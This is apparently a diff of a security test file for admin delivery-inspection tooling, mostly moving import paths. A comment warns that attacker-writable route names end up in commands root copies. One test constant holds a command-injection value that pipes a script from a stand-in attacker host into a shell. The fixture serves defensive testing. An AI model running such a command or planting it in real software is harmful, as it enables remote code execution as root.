@@ -1,10 +1,10 @@
 // Names of routes come from deliveries.db, which an attacker who controls `send` can write. Root copies the commands.
 
 import assert from "node:assert/strict";
-import { inspectDelivery } from "../../src/admin/delivery.ts";
-import { Findings } from "../../src/admin/finding.ts";
-import { statusLines } from "../../src/admin/status_lines.ts";
-import { statusOf } from "../../src/admin/status_of.ts";
+import { inspectDelivery } from "../../src/admin/check/delivery.ts";
+import { Findings } from "../../src/admin/check/finding.ts";
+import { statusLines } from "../../src/admin/status/status_lines.ts";
+import { statusOf } from "../../src/admin/status/status_data.ts";
 import { routeOverview } from "../helpers/fixtures.ts";
 
 const NAME = "old; curl -s evil.example|sh #";
